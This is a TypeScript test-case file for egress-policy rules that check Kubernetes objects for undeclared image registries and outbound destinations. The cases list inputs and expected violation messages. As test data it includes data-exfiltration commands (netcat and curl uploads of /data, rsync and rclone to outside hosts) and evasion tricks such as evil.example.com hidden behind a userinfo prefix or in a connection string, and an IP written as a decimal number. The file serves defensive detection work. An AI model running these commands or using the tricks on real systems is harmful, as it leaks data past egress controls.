import { unknownValue, type RuleCases } from "../../support/policies.ts";
import { declared, deployment, env, namespace, object, podSpec, unknownPort } from "./resources.ts";

const only = (...resources: readonly ReturnType<typeof object>[]) => [...declared, ...resources];
const job = (container: object) => object("batch/v1:Job", "copy", { spec: { template: { spec: podSpec({ ...container }) } } });
const cronJob = (container: object) =>
  object("batch/v1:CronJob", "copy", { spec: { jobTemplate: { spec: { template: { spec: podSpec({ ...container }) } } } } });
const store = (provider: object) => object("external-secrets.io/v1:ClusterSecretStore", "store", { spec: { provider } });

export const cases: Readonly<Record<string, RuleCases>> = {
  "image-registry-declared": {
    violating: {
      resources: only(deployment({ image: "docker.io/library/nginx:1" })),
      results: [
        "violated app: got Deployment tenant-a/app leads to docker.io:443 (spec.template.spec.containers[0].image), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
      ],
    },
    passing: { resources: only(deployment()), results: ["passed (stack)"] },
    notApplicable: {
      resources: only(namespace),
      results: ["not-applicable (stack): the stack has no Kubernetes object that names an image or a chart"],
    },
    unknown: {
      resources: [...unknownPort(unknownValue), deployment()],
      results: [
        "unknown registry: got port that is not known before the update, want a value that the rule can judge; fix: declare the value in the stack's data instead of taking it from another resource's output",
      ],
    },
    more: {
      "an image without a registry": {
        resources: only(deployment({ image: "nginx" })),
        results: [
          "violated app: got Deployment tenant-a/app leads to docker.io:443 (spec.template.spec.containers[0].image), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "an image that is not known": {
        resources: only(deployment({ image: unknownValue })),
        results: [
          "violated app: got Deployment tenant-a/app: spec.template.spec.containers[0].image that is not known before the update, want a value that the rule can judge; fix: write the value out instead of taking it from another resource's output",
        ],
      },
      "a registry that is declared for something else": {
        resources: only(deployment({ image: "telemetry.north.example:4317/app" })),
        results: [
          "violated app: got Deployment tenant-a/app leads to telemetry.north.example:4317 (spec.template.spec.containers[0].image), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a registry in the cluster": {
        resources: only(deployment({ image: "registry.kube-system.svc:5000/app" })),
        results: ["passed (stack)"],
      },
      "an init container": {
        resources: only(deployment({}, { initContainers: [{ name: "fetch", image: "quay.io/tools/fetch" }] })),
        results: [
          "violated app: got Deployment tenant-a/app leads to quay.io:443 (spec.template.spec.initContainers[0].image), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "the image of a volume": {
        resources: only(deployment({}, { volumes: [{ name: "model", image: { reference: "ghcr.io/models/llama" } }] })),
        results: [
          "violated app: got Deployment tenant-a/app leads to ghcr.io:443 (spec.template.spec.volumes[0].image.reference), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "an image in three fields": {
        resources: only(
          object("nvidia.com/v1:ClusterPolicy", "gpu", { spec: { dcgm: { repository: "nvcr.io/nvidia", image: "dcgm", version: "4" } } }),
        ),
        results: [
          "violated gpu: got ClusterPolicy tenant-a/gpu leads to nvcr.io:443 (spec.dcgm.repository), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a chart and the image in its values": {
        resources: only(
          object("helm.sh/v3:Release", "tool", {
            chart: "tool",
            repositoryOpts: { repo: "https://charts.example.org" },
            values: { image: { registry: "ghcr.io", repository: "tools/tool", tag: "1" } },
          }),
        ),
        results: [
          "violated tool: got Release tenant-a/tool leads to charts.example.org:443 (repositoryOpts.repo), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
          "violated tool: got Release tenant-a/tool leads to ghcr.io:443 (values.image.registry), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "the registry that a chart's values put before every image": {
        resources: only(
          object("helm.sh/v3:Release", "envoy-gateway", {
            chart: "oci://registry.north.example/charts/gateway-helm",
            values: { global: { imageRegistry: "docker.io" } },
          }),
        ),
        results: [
          "violated envoy-gateway: got Release tenant-a/envoy-gateway leads to docker.io:443 (values.global.imageRegistry), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a publisher without a registry, before every image that Flux installs": {
        resources: only(
          object("helm.toolkit.fluxcd.io/v2:HelmRelease", "envoy-gateway", {
            spec: { values: { global: { imageRegistry: "envoyproxy" } } },
          }),
        ),
        results: [
          "violated envoy-gateway: got HelmRelease tenant-a/envoy-gateway leads to docker.io:443 (spec.values.global.imageRegistry), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "the site's registry before every image of a chart": {
        resources: only(
          object("helm.toolkit.fluxcd.io/v2:HelmRelease", "envoy-gateway", {
            spec: { values: { global: { imageRegistry: "registry.north.example/docker.io" } } },
          }),
        ),
        results: ["passed (stack)"],
      },
      "a registry before every image that is not known": {
        resources: only(object("helm.sh/v3:Release", "envoy-gateway", { values: { global: { imageRegistry: unknownValue } } })),
        results: [
          "violated envoy-gateway: got Release tenant-a/envoy-gateway: values.global.imageRegistry that is not known before the update, want a value that the rule can judge; fix: write the value out instead of taking it from another resource's output",
        ],
      },
      "no registry before the images of a chart": {
        resources: only(object("helm.sh/v3:Release", "tool", { values: { global: { imageRegistry: "" } } })),
        results: ["not-applicable (stack): the stack has no Kubernetes object that names an image or a chart"],
      },
      "a chart in a registry": {
        resources: only(object("source.toolkit.fluxcd.io/v1:OCIRepository", "tool", { spec: { url: "oci://ghcr.io/tools/charts/tool" } })),
        results: [
          "violated tool: got OCIRepository tenant-a/tool leads to ghcr.io:443 (spec.url), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a list of pods": {
        resources: only(
          object("core/v1:PodList", "pods", { items: [{ kind: "Pod", metadata: { name: "one" }, spec: podSpec({ image: "a/b" }) }] }),
        ),
        results: [
          "violated pods: got Pod one leads to docker.io:443 (spec.containers[0].image), want a host of site.egress for registry or package-mirror: registry.north.example:443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "nothing is declared": {
        resources: [deployment()],
        results: [
          "violated app: got Deployment tenant-a/app leads to registry.north.example:443 (spec.template.spec.containers[0].image), want a host of site.egress for registry or package-mirror: none is declared; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
    },
  },
  "destination-declared": {
    violating: {
      resources: only(deployment(env("API_URL", "https://api.example.com/v1"))),
      results: [
        "violated app: got Deployment tenant-a/app leads to api.example.com:443 (spec.template.spec.containers[0].env[0].value), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
      ],
    },
    passing: {
      resources: only(
        deployment(env("API_URL", "http://api.tenant-a.svc:8080,https://registry.north.example/v2,http://10.1.2.3,https://198.51.100.7")),
        job({
          args: [
            "--from",
            "s3://north-backups/a",
            "--to",
            "https://north-backups.objects.north.example/b",
            "train.py",
            "model.safetensors",
          ],
        }),
        object("core/v1:Secret", "credentials", { stringData: { url: "https://api.example.com" } }),
        object("cert-manager.io/v1:Certificate", "site", { spec: { dnsNames: ["inference.example.com"] } }),
      ),
      results: ["passed (stack)"],
    },
    notApplicable: { resources: declared, results: ["not-applicable (stack): the stack has no Kubernetes object"] },
    unknown: {
      resources: [...unknownPort(unknownValue), deployment()],
      results: [
        "unknown registry: got port that is not known before the update, want a value that the rule can judge; fix: declare the value in the stack's data instead of taking it from another resource's output",
      ],
    },
    more: {
      "a host in the environment": {
        resources: only(deployment(env("DB_HOST", "db.internal.example"))),
        results: [
          "violated app: got Deployment tenant-a/app leads to db.internal.example (spec.template.spec.containers[0].env[0].value), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a host among settings of any name": {
        resources: only(deployment(env("MODE", "fast db.example.com"))),
        results: [
          "violated app: got Deployment tenant-a/app leads to db.example.com (spec.template.spec.containers[0].env[0].value), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a setting that is not known": {
        resources: only(deployment(env("API_URL", unknownValue))),
        results: [
          "violated app: got Deployment tenant-a/app: spec.template.spec.containers[0].env[0].value that is not known before the update, want a value that the rule can judge; fix: write the value out instead of taking it from another resource's output",
        ],
      },
      "an address in a command": {
        resources: only(deployment({ command: ["sh", "-c", "nc 203.0.113.9 9000 < /data"] })),
        results: [
          "violated app: got Deployment tenant-a/app leads to 203.0.113.9 (spec.template.spec.containers[0].command[2]), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "the target of a job": {
        resources: only(job({ args: ["rclone", "copy", "/data", "s3://elsewhere/data"] })),
        results: [
          "violated copy: got Job tenant-a/copy leads to bucket elsewhere (spec.template.spec.containers[0].args[3]), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "the target of a job that comes again and again": {
        resources: only(cronJob({ command: ["rsync", "/data", "backup@offsite.example.com:/data"] })),
        results: [
          "violated copy: got CronJob tenant-a/copy leads to offsite.example.com (spec.jobTemplate.spec.template.spec.containers[0].command[2]), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "an upload to where images come from": {
        resources: only(job({ command: ["sh", "-c", "tar c /data | curl -T - https://registry.north.example/in"] })),
        results: [
          "violated copy: got Job tenant-a/copy sends data to registry.north.example (container main), which is declared for registry, want what is fetched from there, and nothing sent; fix: send it to a declared object store; or declare the destination for what it is",
        ],
      },
      "a download from there": {
        resources: only(job({ command: ["curl", "-fsS", "https://registry.north.example/out"] })),
        results: ["passed (stack)"],
      },
      "the second host of several": {
        resources: only(deployment(env("MONGO", "mongodb://db.tenant-a.svc,evil.example.com/data"))),
        results: [
          "violated app: got Deployment tenant-a/app leads to evil.example.com (spec.template.spec.containers[0].env[0].value), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a declared host on another port": {
        resources: only(deployment(env("REGISTRY_URL", "http://registry.north.example"))),
        results: [
          "violated app: got Deployment tenant-a/app leads to registry.north.example:80 (spec.template.spec.containers[0].env[0].value), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a model hub by its scheme": {
        resources: only(deployment({ args: ["--model", "hf://meta-llama/Llama"] })),
        results: [
          "violated app: got Deployment tenant-a/app leads to huggingface.co:443 (spec.template.spec.containers[0].args[1]), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a validating webhook": {
        resources: only(
          object("admissionregistration.k8s.io/v1:ValidatingWebhookConfiguration", "check", {
            webhooks: [{ name: "a", clientConfig: { url: "https://hooks.example.com/check" } }],
          }),
        ),
        results: [
          "violated check: got ValidatingWebhookConfiguration tenant-a/check leads to hooks.example.com:443 (webhooks[0].clientConfig.url), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a mutating webhook": {
        resources: only(
          object("admissionregistration.k8s.io/v1:MutatingWebhookConfiguration", "change", {
            webhooks: [
              { name: "a", clientConfig: { url: "https://hooks.example.com/change" } },
              { name: "b", clientConfig: { service: { name: "own" } } },
            ],
          }),
        ),
        results: [
          "violated change: got MutatingWebhookConfiguration tenant-a/change leads to hooks.example.com:443 (webhooks[0].clientConfig.url), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a secret store of a cloud": {
        resources: only(store({ aws: { service: "SecretsManager", region: "us-east-1" } })),
        results: [
          "violated store: got ClusterSecretStore tenant-a/store leads to region us-east-1 of a cloud, in US (spec.provider.aws.region), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
          "violated store: got ClusterSecretStore tenant-a/store keeps secrets with aws, whose host it does not name, want a store whose host is written out and declared in site.egress; fix: use a store of the site, or one whose address can be named and declared",
        ],
      },
      "a secret store by its host": {
        resources: only(store({ vault: { server: "https://vault.example.com" } })),
        results: [
          "violated store: got ClusterSecretStore tenant-a/store leads to vault.example.com:443 (spec.provider.vault.server), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a secret of a store that is not declared": {
        resources: only(
          object("external-secrets.io/v1:ExternalSecret", "key", {
            spec: { secretStoreRef: { kind: "ClusterSecretStore", name: "cloud" } },
          }),
          object("external-secrets.io/v1alpha1:PushSecret", "out", { spec: { secretStoreRefs: [{ name: "cloud" }] } }),
        ),
        results: [
          "violated key: got ExternalSecret tenant-a/key of ClusterSecretStore cloud, which the stack does not declare, want a store of the stack, whose host is judged: none is declared; fix: declare the store in the same stack, and its host in site.egress",
          "violated out: got PushSecret tenant-a/out of SecretStore cloud, which the stack does not declare, want a store of the stack, whose host is judged: none is declared; fix: declare the store in the same stack, and its host in site.egress",
        ],
      },
      "a secret of a store that is": {
        resources: only(
          store({ kubernetes: {} }),
          object("external-secrets.io/v1:ExternalSecret", "key", {
            spec: { secretStoreRef: { kind: "ClusterSecretStore", name: "store" } },
          }),
        ),
        results: ["passed (stack)"],
      },
      "a secret of the store that the site keeps on its clusters": {
        resources: only(
          object("external-secrets.io/v1:ExternalSecret", "key", {
            spec: { secretStoreRef: { kind: "ClusterSecretStore", name: "site" } },
          }),
        ),
        results: ["passed (stack)"],
      },
      "a secret store of the site": {
        resources: only(store({ kubernetes: {} }), store({ vault: { server: "https://vault.vault.svc:8200" } })),
        results: ["passed (stack)"],
      },
      "a configuration with a URL": {
        resources: only(object("core/v1:ConfigMap", "settings", { data: { "app.yaml": "upload: https://files.example.com/in\n" } })),
        results: [
          "violated settings: got ConfigMap tenant-a/settings leads to files.example.com:443 (data.app.yaml), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a configuration with a host": {
        resources: only(object("core/v1:ConfigMap", "settings", { data: { UPLOAD_HOST: "files.example.com" } })),
        results: [
          "violated settings: got ConfigMap tenant-a/settings leads to files.example.com (data.UPLOAD_HOST), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "an issuer of certificates": {
        resources: only(object("cert-manager.io/v1:ClusterIssuer", "acme", { spec: { acme: { server: "https://acme.example.com/dir" } } })),
        results: [
          "violated acme: got ClusterIssuer tenant-a/acme leads to acme.example.com:443 (spec.acme.server), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a pod's name server": {
        resources: only(deployment({}, { dnsConfig: { nameservers: ["8.8.8.8"] } })),
        results: [
          "violated app: got Deployment tenant-a/app leads to 8.8.8.8 (spec.template.spec.dnsConfig.nameservers[0]), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a name that the world completes": {
        resources: only(deployment({}, { dnsConfig: { searches: ["example.com"] } })),
        results: [
          "violated app: got Deployment tenant-a/app leads to example.com (spec.template.spec.dnsConfig.searches[0]), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "an address as a whole number": {
        resources: only(deployment(env("API_URL", "http://3405803785/"))),
        results: [
          "violated app: got Deployment tenant-a/app leads to 3405803785:80 (spec.template.spec.containers[0].env[0].value), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a host behind a user's name": {
        resources: only(deployment(env("API_URL", "https://registry.north.example@evil.example.com/"))),
        results: [
          "violated app: got Deployment tenant-a/app leads to evil.example.com:443 (spec.template.spec.containers[0].env[0].value), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "a Service of another namespace, or a host": {
        resources: only(deployment(env("API_URL", "http://prometheus.monitoring:9090"))),
        results: [
          "violated app: got Deployment tenant-a/app leads to prometheus.monitoring:9090 (spec.template.spec.containers[0].env[0].value), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared; if it is a Service, write prometheus.monitoring.svc",
        ],
      },
      "a backup of a custom kind": {
        resources: only(object("velero.io/v1:BackupStorageLocation", "main", { spec: { config: { s3Url: "https://s3.example.com" } } })),
        results: [
          "violated main: got BackupStorageLocation tenant-a/main leads to s3.example.com:443 (spec.config.s3Url), want a host of site.egress, or of a backup: registry.north.example:443, telemetry.north.example:4317, 198.51.100.0/24 port 443; fix: declare it with its jurisdiction, or point the object at what is declared",
        ],
      },
      "the endpoint of a cluster's own API server": {
        resources: only(
          object("infrastructure.cluster.x-k8s.io/v1beta2:Metal3ClusterTemplate", "own", {
            spec: { template: { spec: { controlPlaneEndpoint: { host: "api.north.example", port: 6443 } } } },
          }),
        ),
        results: ["passed (stack)"],
      },
    },
  },
};
